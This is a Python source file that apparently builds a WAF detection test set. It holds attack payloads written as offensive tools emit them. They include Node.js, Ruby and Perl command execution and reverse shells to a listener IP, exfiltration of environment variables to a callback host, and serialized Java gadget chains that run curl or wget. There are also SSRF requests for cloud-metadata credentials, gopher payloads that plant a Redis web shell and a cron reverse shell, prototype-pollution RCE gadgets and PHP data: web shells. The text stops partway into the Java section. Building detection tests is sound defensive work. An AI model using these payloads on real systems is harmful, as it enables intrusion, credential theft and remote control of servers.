"""Blind set "hundredseventyeighth": generic injections (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS, the
PHP data: scheme), Java attacks and server-side template injection written the way the well-known open-source
attack tools generate them, with benign requests that carry the same tool names, keywords and syntax innocently.

The angle: offensive tools' generated payloads, recalled from memory. A scanner pointed at a parameter sends a
probe, then a confirmation, then the exploitation request, and each tool has its own shape: tplmap's and
SSTImap's engine probes (arithmetic markers, then the engine's own code-execution path, then a blind sleep),
SSRFmap's modules and Gopherus' gopher:// payloads (cloud metadata, Redis, FastCGI, SMTP), ppmap's and the
server-side prototype-pollution scanner's probes (`json spaces`, `status`, `exposedHeaders`), nodejsshell.py's
String.fromCharCode wrapper, the node-serialize IIFE, ysoserial's serialized gadget chains (as raw bytes,
percent-encoded, base64 and gzip+base64), marshalsec's and the fastjson/Jackson scanners' polymorphic documents,
the Log4Shell scanners' nested lookups, Nuclei-template-style one-shot checks against named products (Struts2,
Confluence, Spring Cloud Function/Gateway, Solr, WebLogic, Tomcat, Nexus) and the Kadimus/fimap data: wrapper.
Each list carries a comment naming the family, the tool style and the target (interpreter, runtime, template
engine, cloud metadata service, internal service or product).

Families (`sub`, one per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML),
    class-loading, jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (for Java: product endpoints such as /invoker/JMXInvokerServlet or
/struts2-showcase/index.action) under arbitrary parameter names, as a query string, form body, JSON body, XML
body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole documents go where the
tool sends them: polymorphic JSON and prototype-pollution documents as the JSON body, XStream/XMLDecoder/Rails
documents as the XML body, SnakeYAML and Ruby YAML as a YAML body, bracket parameters (`__proto__[x]=y`,
Spring4Shell's `class.module.classLoader...`, ejs `settings[view options]`) as raw `name=value` pairs, Struts2's
OGNL in Content-Type, Spring Cloud Function's SpEL in its routing header, JSP web shells as uploaded files.
Serialized Java streams held as bytes go percent-encoded in a query or form body, never in a header.

Authorship and independence: written for this repository from general knowledge of each attack family, the
tools' output as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import RS_PATHS, BlindSet
from .records import print_records

NAME = "hundredseventyeighth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
YB = ("yaml-body", "rs-yaml-body")
XB = ("xml", "rs-xml")
KV = ("form", "rs-raw-body")
QKV = ("query", "rs-query")
PN = ("param-name", "rs-param-name")
UP = ("multipart-filename", "rs-multipart-filename")
BYTES_Q = ("query", "rs-query")
BYTES_F = ("form", "rs-raw-body")
RAW: set[str] = set()   # entries written as `name=value` (bracket and binding parameters), sent unquoted


def kv(payload: str, places: tuple[str, str] = KV) -> tuple[str, str, str]:
    """A `name=value` entry the tool writes itself (kept unquoted in the places that take it)."""
    RAW.add(payload)
    return (payload,) + places


OOB = "c3x9k2.oast.fun"   # the interactsh-style callback host the tools print
LHOST = "10.10.14.7"   # the tester's listener


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def charcodes(js: str) -> str:
    """nodejsshell.py's wrapper: the script as eval(String.fromCharCode(...))."""
    return "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in js) + "))"


# --- Java serialization streams (ysoserial-shaped: magic, class descriptors, the chain's strings) ---------------
SUIDS = {
    "java.util.HashMap": 0x0507DAC1C31660D1,
    "java.util.HashSet": 0xBA44859596B8B734,
    "java.util.PriorityQueue": 0x94DA30B4FB3F82B1,
    "java.net.URL": 0x962537361AFCE472,
    "java.lang.Integer": 0x12E2A0A4F7818738,
}


def _utf(s: str) -> bytes:
    b = s.encode()
    return len(b).to_bytes(2, "big") + b


def _suid(name: str) -> bytes:
    if name in SUIDS:
        return SUIDS[name].to_bytes(8, "big")
    return hashlib.sha256(name.encode()).digest()[:8]


def jser(classes: Sequence[str], strings: Sequence[str] = ()) -> bytes:
    """TC_OBJECT/TC_CLASSDESC for each class of the chain (SC_SERIALIZABLE|SC_WRITE_METHOD), then TC_STRINGs."""
    out = b"\xac\xed\x00\x05"
    for name in classes:
        out += b"\x73\x72" + _utf(name) + _suid(name) + b"\x03\x00\x00\x78\x70"
    for s in strings:
        out += b"\x74" + _utf(s)
    return out


def urldns(host: str) -> bytes:
    """ysoserial URLDNS: a HashMap whose key is a java.net.URL with hashCode -1 (DNS lookup on readObject)."""
    out = b"\xac\xed\x00\x05\x73\x72" + _utf("java.util.HashMap") + _suid("java.util.HashMap")
    out += b"\x03\x00\x02\x46" + _utf("loadFactor") + b"\x49" + _utf("threshold") + b"\x78\x70"
    out += b"\x3f\x40\x00\x00\x00\x00\x00\x0c\x77\x08\x00\x00\x00\x10\x00\x00\x00\x01"
    out += b"\x73\x72" + _utf("java.net.URL") + _suid("java.net.URL") + b"\x03\x00\x07"
    out += b"\x49" + _utf("hashCode") + b"\x49" + _utf("port")
    for field in ("authority", "file", "host", "protocol", "ref"):
        out += b"\x4c" + _utf(field) + b"\x74" + _utf("Ljava/lang/String;")
    out += b"\x78\x70\xff\xff\xff\xff\xff\xff\xff\xff"
    out += b"\x74" + _utf(host) + b"\x74" + _utf("") + b"\x74" + _utf(host) + b"\x74" + _utf("http") + b"\x70\x78"
    out += b"\x74" + _utf("http://" + host) + b"\x78"
    return out


def latin(raw: bytes) -> str:
    """Raw bytes held as latin-1 text (sent percent-encoded)."""
    return raw.decode("latin-1")


def b64b(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


CC1 = jser(["sun.reflect.annotation.AnnotationInvocationHandler", "java.lang.reflect.Proxy",
            "org.apache.commons.collections.map.LazyMap", "org.apache.commons.collections.functors.ChainedTransformer",
            "org.apache.commons.collections.functors.ConstantTransformer",
            "org.apache.commons.collections.functors.InvokerTransformer"],
           ["java.lang.Runtime", "getMethod", "getRuntime", "invoke", "exec", f"curl http://{OOB}/cc1"])
CC2 = jser(["java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
            "org.apache.commons.collections4.functors.InvokerTransformer",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
           ["newTransformer", "_bytecodes", "ysoserial.Pwner"])
CC5 = jser(["javax.management.BadAttributeValueExpException",
            "org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.collections.map.LazyMap",
            "org.apache.commons.collections.functors.ChainedTransformer",
            "org.apache.commons.collections.functors.InvokerTransformer"],
           ["java.lang.Runtime", "getRuntime", "exec", "touch /tmp/cc5"])
CC6 = jser(["java.util.HashSet", "java.util.HashMap", "org.apache.commons.collections.keyvalue.TiedMapEntry",
            "org.apache.commons.collections.map.LazyMap", "org.apache.commons.collections.functors.InvokerTransformer"],
           ["java.lang.Runtime", "getRuntime", "exec", f"nslookup cc6.{OOB}"])
CB1 = jser(["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
           ["outputProperties", "_bytecodes", "_name", "Pwnr"])
SPRING1 = jser(["org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
               ["getType", "newTransformer", f"wget http://{OOB}/spring1"])
GROOVY1 = jser(["sun.reflect.annotation.AnnotationInvocationHandler", "org.codehaus.groovy.runtime.ConvertedClosure",
                "org.codehaus.groovy.runtime.MethodClosure"],
               ["entrySet", "execute", "id"])
JDK7U21 = jser(["java.util.LinkedHashSet", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                "sun.reflect.annotation.AnnotationInvocationHandler"],
               ["f5a5a608", "getOutputProperties", "_bytecodes"])
C3P0 = jser(["com.mchange.v2.c3p0.PoolBackedDataSource",
             "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
             "com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", "javax.naming.Reference"],
            ["Exploit", f"http://{LHOST}:8000/"])
ROME = jser(["java.util.HashMap", "com.sun.syndication.feed.impl.ObjectBean",
             "com.sun.syndication.feed.impl.ToStringBean",
             "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
            ["javax.xml.transform.Templates", "_bytecodes", f"curl {OOB}"])
HIBERNATE1 = jser(["java.util.HashMap", "org.hibernate.engine.spi.TypedValue",
                   "org.hibernate.type.ComponentType", "org.hibernate.tuple.component.PojoComponentTuplizer",
                   "org.hibernate.property.BasicPropertyAccessor$BasicGetter",
                   "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
                  ["outputProperties", "getOutputProperties"])
JRMP = jser(["java.rmi.server.RemoteObjectInvocationHandler", "sun.rmi.server.UnicastRef"],
            [LHOST, "1099"])
BSH = jser(["java.util.PriorityQueue", "java.lang.reflect.Proxy", "bsh.XThis", "bsh.NameSpace"],
           ["compare(Object foo, Object bar) {new java.lang.ProcessBuilder(new String[]{\"id\"}).start();return new "
            "Integer(1);}"])
CLOJURE = jser(["java.util.HashMap", "clojure.inspector.proxy$javax.swing.table.AbstractTableModel$ff19274a",
                "clojure.core$comp$fn__4727", "clojure.main$eval_opt"],
               ["(use '[clojure.java.shell :only [sh]]) (sh \"id\")"])
RHINO = jser(["javax.management.BadAttributeValueExpException", "org.mozilla.javascript.NativeError",
              "org.mozilla.javascript.NativeJavaObject", "org.mozilla.javascript.MemberBox"],
             ["enter", "newTransformer", "_bytecodes"])
VAADIN = jser(["javax.management.BadAttributeValueExpException", "com.vaadin.data.util.PropertysetItem",
               "com.vaadin.data.util.NestedMethodProperty"],
              ["outputProperties", "_bytecodes"])
SER_STRING = b"\xac\xed\x00\x05\x74" + _utf("ysoserial-probe")
SER_ARRAY = b"\xac\xed\x00\x05\x75\x72" + _utf("[Ljava.lang.Object;") + b"\x90\xce\x58\x9f\x10\x73\x29\x6c\x02\x00\x00"
SER_ARRAY += b"\x78\x70\x00\x00\x00\x01" + b"\x74" + _utf("calc.exe")
URLDNS = urldns(f"urldns.{OOB}")
GZ_CC6 = gzip.compress(CC6, compresslevel=9, mtime=0)
CLASS_BYTES = bytes.fromhex("cafebabe00000034001d0a0006000f0a001000110800120a001000130700140700150100063c696e69743e")
CLASS_B64 = b64b(CLASS_BYTES)

# --- Ruby Marshal (the universal Gem::Requirement chain, as a Rails cookie carries it) ---------------------------


def _rsym(name: str) -> bytes:
    return b":" + bytes([len(name) + 5]) + name.encode()


def _robj(cls: str, ivars: Sequence[tuple[str, bytes]]) -> bytes:
    return b"o" + _rsym(cls) + bytes([len(ivars) + 5]) + b"".join(_rsym(k) + v for k, v in ivars)


def _rstr(s: str) -> bytes:
    return b'"' + bytes([len(s) + 5]) + s.encode()


MARSHAL = b"\x04\x08[\x07" + _robj("Gem::SpecFetcher", []) + _robj("Gem::Installer", []) + b"U" + _rsym(
    "Gem::Requirement") + b"[\x06" + _robj("Gem::Package::TarReader", [("@io", _robj("Net::BufferedIO", [
        ("@io", _robj("Gem::Package::TarReader::Entry", [("@read", b"i\x00"), ("@header", _rstr("aaa"))])),
        ("@debug_output", _robj("Net::WriteAdapter", [
            ("@socket", _robj("Gem::RequestSet", [("@sets", _robj("Net::WriteAdapter", [
                ("@socket", b"m" + bytes([11]) + b"Kernel"), ("@method_id", _rsym("system"))])),
                ("@git_set", _rstr("id"))])),
            ("@method_id", _rsym("resolve"))]))]))])

# ================================================================================================================
# generic
# ================================================================================================================
# nodejs-injection: target the Node.js interpreter behind an eval()/Function()/vm sink. Tool styles: SSTImap's and
# tplmap's "javascript" (Node eval) plugin (probe, then require through process.mainModule, then blind sleep),
# nodejsshell.py's fromCharCode reverse shell, the node-serialize IIFE exploit, vm/safe-eval escape PoCs.
_NODE_SHELL = (f"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
               f"var c=new net.Socket();c.connect(4444,'{LHOST}',function(){{c.pipe(sh.stdin);"
               f"sh.stdout.pipe(c);sh.stderr.pipe(c);}});")
NODE: list[Entry] = [
    # SSTImap/tplmap javascript plugin: confirmation, then code evaluation through require
    "require('child_process').execSync('id').toString()",
    "';require('child_process').exec('curl http://" + OOB + "/$(id|base64 -w0)');'",
    "\";require('child_process').exec('nslookup `whoami`." + OOB + "');//",
    "1;process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "global.process.mainModule.constructor._load('child_process').execSync('uname -a').toString()",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()",
    "new Function(\"return this.process\")().mainModule.require(\"child_process\").execSync(\"id\")+\"\"",
    # blind confirmation: the tool times a sleep
    "require('child_process').execSync('sleep 5')",
    # file read and response writing (Express handler in scope)
    "require('fs').readFileSync('/etc/passwd','utf8')",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "res.end(JSON.stringify(process.env))",
    # exfiltration to the tool's callback host
    "require('http').get('http://" + OOB + "/?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))",
    # vm / safe-eval / static-eval sandbox escapes
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()"
    ".mainModule.require(\"child_process\").execSync(\"id\").toString()')",
    "require('vm').runInThisContext(\"process.mainModule.require('child_process').execSync('id')\")",
    "function stack(){new Error().stack;stack();}try{stack();}catch(e){e.constructor.constructor('return process')()"
    ".mainModule.require('child_process').execSync('touch /tmp/pwned');}",
    # low-level spawn without child_process (process.binding)
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['/bin/sh','-c','id'],envPairs:[],stdio:[{type:'pipe',"
    "readable:true,writable:false},{type:'pipe',readable:false,writable:true},{type:'pipe',readable:false,"
    "writable:true}]}).output.toString()",
    # reverse shells
    "require('child_process').spawn('/bin/bash',['-c','bash -i >& /dev/tcp/" + LHOST + "/4444 0>&1'])",
    charcodes(_NODE_SHELL),
    "eval(Buffer.from('" + b64("require('child_process').exec('id > /tmp/o')") + "','base64').toString())",
    # template-literal sink
    "${require('child_process').execSync('id')}",
    # node-serialize unserialize(): the IIFE the exploit writes into a JSON property (body and base64 cookie)
    ("{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id | nc " + LHOST
     + " 4444',function(e,o){console.log(o)})}()\"}",) + JB,
    (b64("{\"username\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl http://" + OOB
         + "/ns')}()\",\"country\":\"x\"}"), "cookie", "rs-cookie"),
    "_$$ND_FUNC$$_function(){return require('child_process').execSync('id').toString()}()",
]

# nodejs-dos: target the Node.js event loop and V8 heap. Tool styles: ReDoS generators (regexploit, ReScue: an
# evil pattern for a field compiled with new RegExp, or the attack string for a known-vulnerable validator),
# Burp Intruder/ffuf resource-exhaustion payloads for eval sinks, JSON nesting and qs array-index amplification.
NODE_DOS: list[Entry] = [
    # patterns a search field compiles with new RegExp(q): catastrophic backtracking
    "(a+)+$",
    "^(a|a)*$",
    "((a+)+)+b",
    "(.*a){25}",
    "(\\w+\\s?)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    # attack strings for validators with nested quantifiers (email, ua-parser style)
    "a@" + "a" * 60 + "." + "a" * 60 + "!",
    "x" * 4000 + "@",
    # eval sinks: infinite loops, recursion, huge allocations, CPU burners
    "while(true){}",
    "for(;;){}",
    "(function f(){f()})()",
    "new Array(1e9).fill(0)",
    "Buffer.alloc(2**31-1)",
    "'a'.repeat(2**29)",
    "require('crypto').pbkdf2Sync('a','b',1e9,64,'sha512')",
    "process.exit(1)",
    "while(1)require('child_process').fork(__filename)",
    # body parser: JSON nesting depth, qs sparse array index
    ("[" * 6000 + "]" * 6000,) + JB,
    ('{"a":' * 4000 + "1" + "}" * 4000,) + JB,
    kv("a[999999999]=x&a[0]=y", KV),
]

# ssrf-cloud-metadata: target the cloud instance-metadata services through a URL-fetching parameter. Tool styles:
# SSRFmap's aws/gce/alibaba/digitalocean modules, Nuclei cloud-metadata SSRF templates, Burp SSRF bypass lists
# (decimal/hex/octal/IPv6-mapped 169.254.169.254, DNS names resolving to it), gopher requests that add headers.
SSRF_META: list[Entry] = [
    # AWS EC2 IMDSv1
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://instance-data/latest/meta-data/hostname",
    "http://[fd00:ec2::254]/latest/meta-data/",
    # AWS ECS task role and IMDSv2 token through gopher (PUT with the TTL header)
    "http://169.254.170.2/v2/credentials/",
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A",
    # the same address in other notations (SSRFmap/Burp bypasses)
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://" + OOB + "@169.254.169.254/latest/meta-data/iam/",
    # GCP
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "gopher://metadata.google.internal:80/_GET%20/computeMetadata/v1/instance/service-accounts/default/token%20"
    "HTTP/1.1%0D%0AHost:%20metadata.google.internal%0D%0AMetadata-Flavor:%20Google%0D%0A%0D%0A",
    # Azure IMDS and managed identity
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://"
    "management.azure.com/",
    # Alibaba, DigitalOcean, Oracle, OpenStack, Tencent, Kubernetes
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/",
]

# ssrf-internal-ip: target loopback and private-network services and local files through a URL-fetching parameter.
# Tool styles: SSRFmap's portscan/redis/docker/fastcgi/smtp/memcache modules, Gopherus' generated gopher payloads,
# Burp/Nuclei localhost-bypass lists (decimal, octal, hex, short and enclosed forms, resolvers to 127.0.0.1).
SSRF_INTERNAL: list[Entry] = [
    # localhost in every notation
    "http://127.0.0.1:22/",
    "http://localhost:8080/manager/html",
    "http://127.1/server-status",
    "http://0/admin",
    "http://0.0.0.0:8080/actuator/env",
    "http://2130706433/",
    "http://0x7f000001:6379/",
    "http://017700000001/admin",
    "http://[::1]:80/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "http://127.0.0.1.nip.io:2379/v2/keys/?recursive=true",
    "http://" + OOB + "@127.0.0.1:11211/",
    # internal APIs SSRFmap targets
    "http://172.17.0.1:2375/containers/json",
    "http://127.0.0.1:10250/pods",
    # local files and other schemes
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "netdoc:///etc/passwd",
    "dict://127.0.0.1:6379/info",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    # Gopherus: Redis web shell, FastCGI (PHP-FPM), SMTP, MySQL
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2432"
    "%0D%0A%0A%0A%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%20%3F%3E%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A"
    "%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2413%0D%0A/var/www/html%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset"
    "%0D%0A%2410%0D%0Adbfilename%0D%0A%249%0D%0Ashell.php%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A",
    "gopher://127.0.0.1:6379/_%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0Ax%0D%0A%2461%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A"
    "%20%2A%20bash%20-c%20%22bash%20-i%20%3E%26%20/dev/tcp/" + LHOST + "/4444%200%3E%261%22%0A%0A%0D%0A%2A4%0D%0A%24"
    "6%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A/var/spool/cron/%0D%0A",
    "gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01%01%04%04%00%0F%10"
    "SERVER_SOFTWAREgo%20/%20fcgiclient%20%0B%09REMOTE_ADDR127.0.0.1%0F%08SERVER_PROTOCOLHTTP/1.1%0E%02CONTENT_"
    "LENGTH58%0E%04REQUEST_METHODPOST%09KPHP_VALUEallow_url_include%20%3D%20On%0Adisable_functions%20%3D%20%0Aauto_"
    "prepend_file%20%3D%20php%3A//input%0F%17SCRIPT_FILENAME/usr/share/php/PEAR.php%0D%01DOCUMENT_ROOT/%00%00%00%00"
    "%01%04%00%01%00%00%00%00%01%05%00%01%00%3A%04%00%3C%3Fphp%20system%28%27id%27%29%3Bdie%28%27-----%27%29%3B%3F%3E",
]

# javascript-prototype-pollution: target Object.prototype in Node.js (qs/body-parser/lodash.merge/jQuery deparam)
# and the browser. Tool styles: ppmap/ppfuzz client probes, the server-side prototype pollution scanner's
# non-destructive probes (json spaces, status, exposedHeaders, parameterLimit, charset), and known RCE gadgets
# (child_process shell/NODE_OPTIONS, ejs outputFunctionName, pug block, lodash sourceURL, Handlebars AST).
PP: list[Entry] = [
    # ppmap / ppfuzz: query-string pollution, bracket and dot notations, filter bypasses
    kv("__proto__[ppmap]=reserved", QKV),
    kv("constructor[prototype][ppmap]=reserved", QKV),
    kv("__proto__.ppmap=reserved", QKV),
    kv("__pro__proto__to__[polluted]=1", QKV),
    kv("x[__proto__][polluted]=1", PN),
    kv("__proto__[transport_url]=data:,alert(document.domain)//", QKV),
    kv("__proto__[innerHTML]=<img src=x onerror=alert(document.cookie)>", KV),
    kv("__proto__[isAdmin]=true", KV),
    kv("constructor.prototype.role=admin", KV),
    # server-side scanner: probes whose effect shows in the next response
    kv("__proto__[json spaces]=10", KV),
    ('{"__proto__":{"json spaces":10}}',) + JB,
    ('{"__proto__":{"status":510}}',) + JB,
    ('{"__proto__":{"exposedHeaders":["x-pp-probe"]}}',) + JB,
    ('{"__proto__":{"parameterLimit":1}}',) + JB,
    ('{"__proto__":{"content-type":"application/json; charset=utf-7"}}',) + JB,
    ('{"constructor":{"prototype":{"isAdmin":true}}}',) + JB,
    ('{"user":{"__proto__":{"role":"admin"}}}',) + JB,
    ('{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":"yes"}}',) + JB,
    # RCE gadgets
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',) + JB,
    ('{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'curl http://' + OOB + '\')"]}}',) + JB,
    ('{"__proto__":{"outputFunctionName":"_x;global.process.mainModule.require(\'child_process\').exec(\'id\');'
     'var _y"}}',) + JB,
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync('
     '\'id\')"}}}',) + JB,
    ('{"__proto__":{"sourceURL":"\\u000areturn process.mainModule.require(\'child_process\').execSync(\'id\')'
     '//"}}',) + JB,
    ('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":"NumberLiteral",'
     '"value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],"loc":{"start":0,"end":0}}]}}',)
    + JB,
]

# ruby-injection: target the Ruby interpreter (eval/instance_eval sinks, Kernel#open with a pipe, YAML.load and
# Marshal.load). Tool styles: tplmap/SSTImap "ruby" plugin (interpolation probe, then backticks), commix-like
# command separators inside a Ruby string, Metasploit's rails_xml_yaml_code_exec, the universal Gem gadget chain.
RUBY: list[Entry] = [
    "`id`",
    "%x(id)",
    "system('id')",
    "exec('/bin/sh -c id')",
    "IO.popen('id').read",
    "Open3.capture2('id')[0]",
    "Process.spawn('bash -c \"bash -i >& /dev/tcp/" + LHOST + "/4444 0>&1\"')",
    "send(:system,'id')",
    "Kernel.public_send(:`,'id')",
    "Object.const_get(:Kernel).system('uname -a')",
    "instance_eval('system(\"id\")')",
    "eval(%q{`id`})",
    "\"#{`id`}\"",
    "\";system('id');\"",
    "';sleep 5;'",
    "File.read('/etc/passwd')",
    # Kernel#open / URI.open with a leading pipe
    "|id",
    "|curl http://" + OOB + "/`whoami`",
    "open('|cat /etc/passwd').read",
    # YAML.load / Psych: the universal Gem::Requirement chain, and the 2013 Rails XML-typed YAML exploit
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n",) + YB,
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><exploit type=\"yaml\">--- !ruby/hash:ActionController::Routing::"
     "RouteSet::NamedRouteCollection\n? ! \"foo\\n(system('id'); @executed = true) unless @executed\\n__END__\\n\"\n"
     ": !ruby/struct\n  defaults:\n    :action: create\n    :controller: foos\n  required_parts: []\n</exploit>",)
    + XB,
    # Marshal.load of a cookie
    (b64b(MARSHAL), "cookie", "rs-cookie"),
]

# perl-injection: target the Perl interpreter (two-argument open with a pipe, system/exec/qx, string eval, CGI
# scripts). Tool styles: commix-like pipes in a file name, Nuclei checks for AWStats configdir and TWiki rev,
# Metasploit's perl reverse shell, Template Toolkit and Mojo::Template code blocks.
PERL: list[Entry] = [
    "|id|",
    "|/bin/cat /etc/passwd|",
    ";system('id');",
    "system(\"cat /etc/passwd\")",
    "exec('/bin/sh','-c','id')",
    "qx{id}",
    "`sleep 5`",
    "readpipe('uname -a')",
    "open(F,'|id');print <F>",
    "open(my $f,'-|','cat','/etc/shadow');print <$f>",
    "eval \"system('id')\"",
    "@{[system 'id']}",
    "${\\`id`}",
    "do '/etc/passwd'",
    "select(undef,undef,undef,5)",
    "|echo;echo YYY;id;echo YYY;echo|",
    "2 |id|",
    "perl -e 'use Socket;$i=\"" + LHOST + "\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    "[% PERL %]system('id');[% END %]",
    "<%= qx{id} %>",
]

# php-data-scheme: target PHP include()/require() with allow_url_include (the data:// stream wrapper). Tool
# styles: Kadimus' and LFISuite's data-wrapper technique (an md5/echo probe, then a command), fimap's and
# liffy's stager, Nuclei's data-wrapper LFI check.
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + b64("<?php echo md5('kadimus'); ?>"),
    "data://text/plain;base64," + b64("<?php system($_GET['cmd']); ?>"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php echo shell_exec('id'); ?>",
    "data:;base64," + b64("<?php passthru('uname -a'); ?>"),
    "data://text/plain;base64," + b64("<?=`id`?>"),
    "data://image/jpeg;base64," + b64("<?php eval($_POST['x']); ?>"),
    "DATA://text/plain;base64," + b64("<?php system('cat /etc/passwd'); ?>"),
    "data:application/x-httpd-php;base64," + b64("<?php system('whoami'); ?>"),
    "data://text/plain;charset=utf-8;base64," + b64("<?php echo file_get_contents('/etc/passwd'); ?>"),
    "data:text/html,<?php file_put_contents('s.php','<?php system($_REQUEST[c]); ?>'); ?>",
    "data://text/plain;base64," + b64("<?php sleep(5); ?>"),
    "data://text/plain;base64," + b64("<?php $s=fsockopen('" + LHOST + "',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>"),
    "data://text/plain;base64," + b64("<?php system('wget http://" + LHOST
                                      + ":8000/s.txt -O /tmp/s.php;php /tmp/s.php'); ?>"),
    "data://,<?php system('id');?>",
    "data:,<?php echo 1337*1337; ?>",
    "php://filter/read=convert.base64-decode/resource=data://plain/text," + b64("<?php phpinfo(); ?>"),
    "data://text/plain;base64," + b64("<?php echo '<pre>'.shell_exec($_GET['c']).'</pre>'; ?>"),
]

# ================================================================================================================
# java
# ================================================================================================================
# java-class-names: target a JVM script engine or evaluator reached from a parameter (Groovy/Jenkins script
